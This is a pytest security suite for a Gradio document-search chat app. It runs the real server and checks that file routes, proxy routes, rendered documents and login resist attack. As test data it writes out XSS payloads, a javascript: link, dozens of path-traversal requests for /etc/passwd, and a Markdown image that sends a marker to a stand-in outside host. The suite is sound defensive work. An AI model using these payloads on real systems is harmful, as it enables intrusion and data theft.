"""The running app's attack surface: file routes, hostile input, HTML in documents, bind address, password.

Each check runs against the real server (`python app.py` on a free loopback port) over a tiny corpus indexed
with MiniLM, to which a hostile Markdown document is added: its title, author, link and text carry `<script>` and
`<img onerror>` payloads and a unique marker string. Only loopback addresses are contacted.
"""
from __future__ import annotations

import http.client
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
import time
import urllib.request
from pathlib import Path
from urllib.parse import quote

import pytest

from ingest import ingest
from rag.settings import Settings

from .conftest import CHROMIUM, MINILM, ROOT, TINY, free_port

os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"  # gradio_client's own telemetry, in this test process
os.environ["HF_HUB_DISABLE_TELEMETRY"] = "1"

MARKER = "MARQUEUR-7f3a9c-NE-DOIT-PAS-FUIR"
OUTSIDE_MARKER = "SECRET-HORS-APPLI-51d0e2"
PAYLOAD_SCRIPT = "<script>window.__pwned=1</script>"
PAYLOAD_IMG = '<img src=x onerror="window.__pwned=1">'
USER, PASSWORD = "animatrice", "Atelier-2026!"
# Markdown that a chat window would turn into a fetched image or an outside link (TEST-NET-3 address: never routed,
# so nothing leaves the machine even if a request were made; the browser still records the attempt)
OUTSIDE = "203.0.113.9"
MD_IMG = f"![plan](http://{OUTSIDE}/pixel.png?fuite={MARKER})"
MD_LINK = f"[la carte](http://{OUTSIDE}/lien)"

HOSTILE = f"""---
id: doc-hostile
title: "La monnaie fondante de Wörgl {PAYLOAD_SCRIPT}"
type: publication
authors: ['{PAYLOAD_IMG}', '![a](http://{OUTSIDE}/auteur.png)']
year: 2019
language: fr
url: "javascript:window.__pwned=1"
publisher: "Jeu de test innosoc"
topics: ["monnaie fondante"]
---
# La monnaie fondante de Wörgl

En 1932, la commune autrichienne de Wörgl émet une monnaie fondante {PAYLOAD_SCRIPT} qui perd un pour cent de sa valeur chaque mois. Cette monnaie fondante circule vite {MD_IMG} et finance les travaux publics de Wörgl {PAYLOAD_IMG} pendant la crise, voir {MD_LINK}, http://{OUTSIDE}/nu et www.exemple.invalid.

Le marqueur {MARKER} identifie ce document dans les tests de sécurité. La banque nationale autrichienne fait cesser l'expérience de la monnaie fondante en 1933.
"""


# ------------------------------------------------------------------------------------------------ fixtures

def app_env() -> dict:
    # The app must switch Gradio's telemetry off by itself: the server gets an environment without the switch.
    env = dict(os.environ)
    env.pop("GRADIO_ANALYTICS_ENABLED", None)
    return env


class Server:
    def __init__(self, index: Path, corpus: Path, tmp: Path, *extra: str):
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.log = tmp / f"app-{self.port}.log"
        self._log = open(self.log, "w")
        self.proc = subprocess.Popen(
            [sys.executable, "app.py", "--index", str(index), "--corpus", str(corpus), "--port", str(self.port),
             "--no-update", "--feedback", str(tmp / "feedback.jsonl"), *extra],
            cwd=ROOT, stdout=self._log, stderr=subprocess.STDOUT, env=app_env())
        t0 = time.time()
        while time.time() - t0 < 240:
            if self.proc.poll() is not None:
                raise RuntimeError(f"l'application s'est arrêtée : {self.log.read_text()}")
            try:
                urllib.request.urlopen(self.url + "/", timeout=3)
                return
            except OSError:
                time.sleep(0.3)
        self.stop()
        raise TimeoutError(self.url)

    def get(self, path: str, **headers) -> tuple[int, bytes]:
        """GET with the path sent exactly as written (no normalisation of `..` or of %-escapes)."""
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        try:
            conn.request("GET", path, headers=headers)
            r = conn.getresponse()
            return r.status, r.read()
        finally:
            conn.close()

    def post(self, path: str, body: bytes, content_type: str) -> tuple[int, bytes]:
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        try:
            conn.request("POST", path, body=body, headers={"Content-Type": content_type})
            r = conn.getresponse()
            return r.status, r.read()
        finally:
            conn.close()

    def stop(self):
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(timeout=10)
        self._log.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The tiny corpus plus the hostile document, indexed with MiniLM; a secret file outside everything."""
    d = tmp_path_factory.mktemp("hostile")
    corpus = d / "corpus"
    shutil.copytree(TINY, corpus)
    (corpus / "hostile.md").write_text(HOSTILE, encoding="utf-8")
    s = Settings(index_dir=d / "index", model=MINILM, chunk_tokens=120, chunk_overlap=20)
    report = ingest([corpus], s)
    assert not report.skipped, report.skipped
    gen = s.index_dir / (s.index_dir / "CURRENT").read_text().strip()
    chunks = gen / "chunks.jsonl"
    # the payloads reach the index verbatim: what the UI shows is exactly what a hostile file contained
    assert MARKER in chunks.read_text(encoding="utf-8") and "<script>window.__pwned=1</script>" in chunks.read_text()
    outside = d / "ailleurs" / "secret.txt"
    outside.parent.mkdir()
    outside.write_text(f"{OUTSIDE_MARKER}\n")
    return {"dir": d, "corpus": corpus, "index": s.index_dir, "gen": gen, "chunks": chunks, "outside": outside}


@pytest.fixture(scope="module")
def server(hostile):
    srv = Server(hostile["index"], hostile["corpus"], hostile["dir"])
    yield srv
    srv.stop()


@pytest.fixture(scope="module")
def auth_server(hostile):
    secret = hostile["dir"] / "comptes.txt"
    secret.write_text(f"# comptes de l'atelier\n{USER}:{PASSWORD}\n", encoding="utf-8")
    secret.chmod(0o600)
    srv = Server(hostile["index"], hostile["corpus"], hostile["dir"], "--auth-file", str(secret))
    yield srv
    srv.stop()


def gclient(url: str, auth=None):
    from gradio_client import Client

    return Client(url + "/", verbose=False, auth=auth, download_files=False, analytics_enabled=False)


# ------------------------------------------------------------------------------------------------ files

def traversals(p: str) -> list[str]:
    """Ways of asking the server for the file at absolute path p through its routes."""
    rel = p.lstrip("/")
    up, up_enc, up_half = "../" * 12, "%2e%2e%2f" * 12, "..%2f" * 12
    return [
        f"/gradio_api/file={p}", f"/gradio_api/file={quote(p, safe='')}", f"/gradio_api/file=/{p}",
        f"/gradio_api/file/{p}", f"/file={p}", f"/gradio_api/file={up}{rel}",
        f"/gradio_api/file={up_enc}{quote(rel, safe='')}", f"/gradio_api/file={up_half}{rel}",
        f"/gradio_api/file=file://{p}", f"/gradio_api/file={p}%00.png",
        f"/static/{up}{rel}", f"/static/{'%2e%2e/' * 12}{rel}", f"/assets/{up_half}{rel}", f"/svelte/{up_enc}{rel}",
        f"/{up}{rel}", f"/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/{rel}",
        f"/gradio_api/custom_component/x/client/{up_half}/{quote(rel, safe='')}",
        f"/gradio_api/run-history/records/x/{up_half}/assets/{quote(rel, safe='')}",
        f"/gradio_api/stream/x/{up_half}/0/playlist-file", f"/gradio_api/proxy=file://{p}",
    ]


def test_no_route_reads_a_file_outside_the_apps_assets(server, hostile):
    gen = hostile["gen"]
    targets = {  # file -> a string only that file's raw content holds
        "/etc/passwd": b"root:x:0:0",
        str(hostile["corpus"] / "hostile.md"): b"id: doc-hostile",
        str(hostile["chunks"]): MARKER.encode(),
        str(gen / "manifest.json"): b'"chunk_overlap"',
        str(gen / "vectors.npy"): b"\x93NUMPY",
        str(hostile["outside"]): OUTSIDE_MARKER.encode(),
        str(ROOT / "app.py"): b"class InnosocApp",
        str(ROOT / "corpus" / "concepts" / "scic.md"): b"id: scic",
    }
    for path, needle in targets.items():
        assert needle in Path(path).read_bytes(), path  # the check below could fail: the content is there
    requests = [(t, needle) for path, needle in targets.items() for t in traversals(path)]
    # paths relative to the app's working directory (the project folder)
    for rel, needle in [("app.py", b"class InnosocApp"), ("corpus/concepts/scic.md", b"id: scic"),
                        ("rag/settings.py", b"class Settings")]:
        requests += [(t, needle) for t in (f"/gradio_api/file={rel}", f"/gradio_api/file=./{rel}", f"/file={rel}",
                                           f"/gradio_api/file={quote(rel, safe='')}", f"/static/../../{rel}")]
    # control: the same reading code finds content the server is allowed to serve (a file uploaded to its cache)
    status, body = server.post("/gradio_api/upload", b"--b\r\nContent-Disposition: form-data; name=\"files\"; "
                               b"filename=\"t.txt\"\r\nContent-Type: text/plain\r\n\r\n" + MARKER.encode()
                               + b"\r\n--b--\r\n", "multipart/form-data; boundary=b")
    assert status == 200, body
    cached = json.loads(body)[0]
    assert MARKER.encode() in server.get("/gradio_api/file=" + cached)[1]
    leaks = []
    for path, needle in requests:
        status, body = server.get(path)
        if needle in body:
            leaks.append((path, status))
    assert not leaks, leaks
    assert len(requests) > 150
    status, body = server.get("/")
    assert status == 200 and b"innosoc" in body  # the attacks did not bring the server down


def test_file_route_does_not_fetch_loopback_urls_for_a_caller(server):
    """`/gradio_api/file=http://…` and `/proxy=` must not become a way to read other local services."""
    secret_dir = Path(server.log).parent / "side"
    secret_dir.mkdir(exist_ok=True)
    (secret_dir / "secret.txt").write_text(OUTSIDE_MARKER)
    hits = []

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *a, **k):
            super().__init__(*a, directory=str(secret_dir), **k)

        def log_message(self, *a):
            hits.append(self.path)

    side = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    t = threading.Thread(target=side.serve_forever, daemon=True)
    t.start()
    try:
        port = side.server_address[1]
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/secret.txt") as r:  # the side service works
            assert OUTSIDE_MARKER in r.read().decode()
        hits.clear()
        # numeric addresses only: a host name could send a DNS query off the machine
        for url in (f"http://127.0.0.1:{port}/secret.txt", f"http://[::ffff:127.0.0.1]:{port}/secret.txt",
                    f"http://127.0.0.1:{port}/../secret.txt"):
            for target in ("/gradio_api/file=" + url, "/gradio_api/file=" + quote(url, safe=""),
                           "/gradio_api/file/" + url, "/gradio_api/proxy=" + url):
                status, body = server.get(target)
                assert OUTSIDE_MARKER.encode() not in body, (target, status)
        assert hits == []  # the app never even connected to the local service
    finally:
        side.shutdown()
        side.server_close()


def test_gradio_telemetry_and_monitoring_pages_are_off(server):
    """Nothing is sent to api.gradio.app, and /monitoring does not show the traffic to whoever asks."""
    status, body = server.get("/config")
    assert status == 200 and json.loads(body)["analytics_enabled"] is False
    assert server.get("/monitoring/summary")[0] == 403
    assert server.get("/monitoring")[0] == 403


# ------------------------------------------------------------------------------------------------ input

def test_overlong_message_is_truncated_with_a_notice(server):
    c = gclient(server.url)
    try:
        r = c.predict("Qu'est-ce que la monnaie fondante de Wörgl ? " + "x" * 100_000, None, api_name="/chat")
    finally:
        c.close()
    assert len(r["question"]) <= 2000
    assert any("dépassait 2000 caractères" in w for w in r["warnings"])
    assert r["text"]


def test_control_characters_are_removed_and_an_empty_message_is_refused_clearly(server):
    from gradio_client.exceptions import AppError

    c = gclient(server.url)
    try:
        r = c.predict("Qui détient le capital d'une SCOP ?\x00\x07\x1b[31m\x7f\x08", None, api_name="/chat")
        assert r["found"] and not any(ch in r["question"] for ch in "\x00\x07\x1b\x7f\x08")
        with pytest.raises(AppError, match="Écrivez une question"):
            c.predict("\x00\x01\x02\x1b\x7f", None, api_name="/chat")
        with pytest.raises(AppError, match="Décrivez la ressource"):
            c.predict("\x00 \x0b", None, None, None, None, 10, api_name="/search")
        # the server still answers afterwards
        assert c.predict("Qui détient le capital d'une SCOP ?", None, api_name="/chat")["found"]
    finally:
        c.close()
    assert server.proc.poll() is None


# ------------------------------------------------------------------------------------------------ HTML / JS

NOT_RUN = """() => ({
    pwned: typeof window.__pwned,
    scripts: [...document.querySelectorAll('script')].filter(s => s.textContent.includes('__pwned')).length,
    handlers: [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(
        a => a.name.startsWith('on') && a.value.includes('__pwned'))).length,
    imgx: document.querySelectorAll('img[src="x"]').length,
    jslinks: [...document.querySelectorAll('a[href]')].filter(
        a => a.href.trim().toLowerCase().startsWith('javascript:')).length,
})"""
CLEAN = {"pwned": "undefined", "scripts": 0, "handlers": 0, "imgx": 0, "jslinks": 0}


OUTSIDE_LINKS = """() => [...document.querySelectorAll('#chatbot a[href], #chatbot img, #dossier-intro img')]
    .map(e => e.href || e.src).filter(u => u && !u.startsWith(location.origin))"""


def test_html_in_documents_and_questions_is_shown_as_text_never_run(browser, server):
    """…and Markdown images and links in a document or a question are shown as text: the page sends no request
    to any host but the app's own (every request the page makes is recorded)."""
    ctx = browser.new_context(viewport={"width": 1400, "height": 1000})
    pg = ctx.new_page()
    requests = []
    pg.on("request", lambda r: requests.append(r.url))
    try:
        pg.goto(server.url + "/")
        pg.wait_for_selector("#question textarea", timeout=60_000)

        pg.fill("#question textarea", f"{PAYLOAD_IMG} Qu'est-ce que la monnaie fondante de Wörgl ? {PAYLOAD_SCRIPT} "
                                      f"![q](http://{OUTSIDE}/question.png)")
        pg.click("#send")
        pg.wait_for_function("""() => { const m = document.querySelectorAll('#chatbot [data-testid="bot"]');
                                        return m.length >= 1 && !m[m.length-1].innerText.includes('Je cherche'); }""",
                             timeout=120_000)
        pg.wait_for_selector('#sources .card[data-doc-id="doc-hostile"]', timeout=30_000)
        pg.wait_for_timeout(1500)  # an <img src=x> would have failed to load and fired onerror by now
        assert pg.evaluate(NOT_RUN) == CLEAN
        chat, sources = pg.locator("#chatbot").inner_text(), pg.locator("#sources").inner_text()
        assert PAYLOAD_IMG in chat  # the question, shown as typed
        assert PAYLOAD_SCRIPT in sources and PAYLOAD_IMG in sources  # the document's text, shown as text
        assert pg.locator('#sources .card[data-doc-id="doc-hostile"] a').count() == 0  # javascript: link dropped
        # Markdown in an author's name and in the question, shown as written (the Markdown loader already reduces
        # a passage's own Markdown to its text; rag/render.py's unit tests cover passages and model output)
        assert f"![a](http://{OUTSIDE}/auteur.png)" in chat and f"![q](http://{OUTSIDE}/question.png)" in chat
        # The bare address of the passage is no longer quoted by the span composer (it answers with the opening
        # sentences); that a bare address is shown as text and never linked is covered by
        # tests/test_app.py::test_markdown_images_and_foreign_links_are_neutralised.
        # Here: whatever the page shows, it links to no outside host.
        assert pg.evaluate(OUTSIDE_LINKS) == []

        pg.get_by_role("tab", name="Trouver une ressource").click()
        pg.fill("#find-desc textarea", "monnaie fondante de Wörgl")
        pg.click("#find-btn")
        pg.wait_for_selector('#find-results .card[data-doc-id="doc-hostile"]', timeout=60_000)
        pg.wait_for_timeout(1500)
        assert pg.evaluate(NOT_RUN) == CLEAN
        card = pg.locator('#find-results .card[data-doc-id="doc-hostile"]').inner_text()
        assert "La monnaie fondante de Wörgl <script>window.__pwned=1</script>" in card  # the title, as text
        assert PAYLOAD_IMG in card  # the author, as text
        assert requests and all(r.startswith(server.url + "/") for r in requests), \
            [r for r in requests if not r.startswith(server.url + "/")]
    finally:
        ctx.close()


# ------------------------------------------------------------------------------------------------ network

def listeners(port: int) -> list[tuple[str, str]]:
    """(family, local address) of the sockets listening on `port`, from /proc/net/tcp and tcp6."""
    out = []
    for fam in ("tcp", "tcp6"):
        try:
            lines = Path(f"/proc/net/{fam}").read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            f = line.split()
            addr, p = f[1].rsplit(":", 1)
            if f[3] == "0A" and int(p, 16) == port:  # 0A = LISTEN
                out.append((fam, addr))
    return out


def test_default_bind_is_loopback_only(server):
    found = listeners(server.port)
    assert found == [("tcp", "0100007F")], found  # 127.0.0.1, little-endian hex; nothing on IPv6


def test_network_host_without_password_warns(hostile, tmp_path):
    """--host 0.0.0.0 without --auth prints a warning (checked on an index that does not exist, so that the
    app stops before it listens on anything)."""
    r = subprocess.run([sys.executable, "app.py", "--host", "0.0.0.0", "--index", str(tmp_path / "absent"),
                        "--no-update", "--port", str(free_port())], cwd=ROOT, capture_output=True, text=True,
                       timeout=180, env=app_env())
    assert r.returncode == 2
    assert "ATTENTION" in r.stderr and "--auth" in r.stderr


def test_share_without_password_warns(tmp_path):
    r = subprocess.run([sys.executable, "app.py", "--share", "--index", str(tmp_path / "absent"), "--no-update",
                        "--port", str(free_port())], cwd=ROOT, capture_output=True, text=True, timeout=180,
                       env=app_env())
    assert r.returncode == 2
    assert "ATTENTION" in r.stderr and "--share" in r.stderr and "lien public" in r.stderr


# ------------------------------------------------------------------------------------------------ password

def test_wrong_password_gets_nothing_and_the_right_one_works(auth_server):
    from gradio_client.exceptions import AuthenticationError

    srv = auth_server
    # the password came from --auth-file: it is nowhere in the server's command line (what `ps` shows)
    cmdline = Path(f"/proc/{srv.proc.pid}/cmdline").read_bytes()
    assert b"--auth-file" in cmdline and PASSWORD.encode() not in cmdline
    status, body = srv.get("/")
    assert status == 200 and b'"auth_required":true' in body.replace(b" ", b"")
    assert b"Sol-violette" not in body and b"Discuter" not in body  # the login page, not the app
    for path in ("/config", "/gradio_api/info", "/gradio_api/openapi.json", "/gradio_api/file=/etc/passwd",
                 "/gradio_api/queue/data?session_hash=x", "/monitoring/summary"):
        status, body = srv.get(path)
        assert status == 401, (path, status)
        assert b"Sol-violette" not in body and b"root:x" not in body
    payload = json.dumps({"data": ["Qui détient le capital d'une SCOP ?", None]}).encode()
    assert srv.post("/gradio_api/call/chat", payload, "application/json")[0] == 401
    assert srv.post("/gradio_api/upload", b"--b--\r\n", "multipart/form-data; boundary=b")[0] == 401

    status, body = srv.post("/login", f"username={USER}&password=mauvais".encode(), "application/x-www-form-urlencoded")
    assert status == 400 and b"access-token" not in body
    for auth in [(USER, "mauvais"), ("intrus", PASSWORD), (USER, ""), (USER, PASSWORD.lower())]:
        with pytest.raises((ValueError, AuthenticationError)):
            gclient(srv.url, auth=auth)
    with pytest.raises(AuthenticationError):
        gclient(srv.url)

    c = gclient(srv.url, auth=(USER, PASSWORD))
    try:
        r = c.predict("Qui détient le capital d'une SCOP ?", None, api_name="/chat")
    finally:
        c.close()
    assert r["found"] and r["citations"][0]["doc_id"] == "scop-guide"
